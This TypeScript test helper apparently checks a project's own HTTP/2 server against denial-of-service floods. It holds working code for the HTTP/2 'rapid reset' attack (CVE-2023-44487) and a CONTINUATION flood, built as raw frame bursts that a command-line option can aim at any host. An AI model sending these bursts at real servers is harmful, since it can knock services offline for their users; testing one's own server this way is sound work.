// An abusive HTTP/2 prior-knowledge client (CVE-2023-44487, "rapid reset"): opens --streams
// streams and resets each at once (HEADERS with END_STREAM, then RST_STREAM CANCEL), in one
// write, then reads the server's frames until it closes, and reports the GOAWAY it got.
//   node tests/apps/h2-rapid-reset.ts --host H --port P [--streams 1500]
// stdout: one line {goaway: <error code, or -1 for none>, closed: true}
import net from 'node:net';
import { parseArgs } from 'node:util';
import { fileURLToPath } from 'node:url';
import { emit, intFlag, runCli } from './app-cli.ts';

function frame(type: number, flags: number, id: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(id, 5);
  return Buffer.concat([h, payload]);
}

/** The burst: preface, empty SETTINGS, then `n` × (HEADERS END_STREAM|END_HEADERS, RST_STREAM CANCEL). */
export function rapidResetBurst(n: number): Buffer {
  // HPACK (RFC 7541 Appendix A): :method GET (2), :scheme http (6), :path / (4) indexed; :authority
  // "a" as a literal without indexing (name index 1).
  const block = Buffer.from([0x82, 0x86, 0x84, 0x01, 0x01, 0x61]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))];
  for (let i = 0; i < n; i++) {
    const id = 1 + 2 * i;
    parts.push(frame(1, 0x4 | 0x1, id, block), frame(3, 0, id, cancel));
  }
  return Buffer.concat(parts);
}

/** A CONTINUATION flood: preface, SETTINGS, a HEADERS without END_HEADERS, then `n` CONTINUATIONs of 1 octet. */
export function continuationFloodBurst(n: number): Buffer {
  const parts: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0x1, 1, Buffer.from([0x82]))];
  // Each adds an indexed ":method GET" the block will never finish (END_HEADERS never comes).
  for (let i = 0; i < n; i++) parts.push(frame(9, 0, 1, Buffer.from([0x82])));
  return Buffer.concat(parts);
}

/** The error code of the first GOAWAY among `bytes` (frames from the server), or -1. */
export function goawayCode(bytes: Buffer): number {
  for (let at = 0; at + 9 <= bytes.length;) {
    const len = bytes.readUIntBE(at, 3);
    if (bytes[at + 3] === 7 && at + 17 <= bytes.length) return bytes.readUInt32BE(at + 13);
    at += 9 + len;
  }
  return -1;
}

/** The debug data of the first GOAWAY among `bytes` (latin1; the codec puts its reason there), or ''. */
export function goawayDebug(bytes: Buffer): string {
  for (let at = 0; at + 9 <= bytes.length;) {
    const len = bytes.readUIntBE(at, 3);
    if (bytes[at + 3] === 7 && at + 9 + len <= bytes.length) return bytes.subarray(at + 17, at + 9 + len).toString('latin1');
    at += 9 + len;
  }
  return '';
}

/** Sends `bytes` to host:port and resolves with the server's GOAWAY code once it closed. */
export function sendBurst(host: string, port: number, bytes: Buffer, debug?: (text: string) => void): Promise<number> {
  return new Promise((resolve) => {
    const c = net.connect(port, host);
    const got: Buffer[] = [];
    c.on('error', () => undefined);
    c.on('data', (d: Buffer) => got.push(d));
    c.once('connect', () => c.write(bytes));
    c.once('close', () => {
      const all = Buffer.concat(got);
      debug?.(goawayDebug(all));
      resolve(goawayCode(all));
    });
  });
}

export function rapidReset(host: string, port: number, streams: number, debug?: (text: string) => void): Promise<number> {
  return sendBurst(host, port, rapidResetBurst(streams), debug);
}

// Run as a program (tests/agent/http/app-h2-engines.test.ts imports the functions instead).
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  runCli('h2-rapid-reset', 'node tests/apps/h2-rapid-reset.ts --host H --port P [--streams N]', async (argv) => {
    const { values } = parseArgs({ args: argv, options: { host: { type: 'string', default: '127.0.0.1' }, port: { type: 'string' }, streams: { type: 'string' } }, strict: true });
    const port = intFlag('port', values.port, 0, 1, 65535);
    let debug = '';
    const code = await rapidReset(values.host, port, intFlag('streams', values.streams, 1500, 1, 100_000), (d) => { debug = d; });
    emit({ goaway: code, debug, closed: true });
  });
}
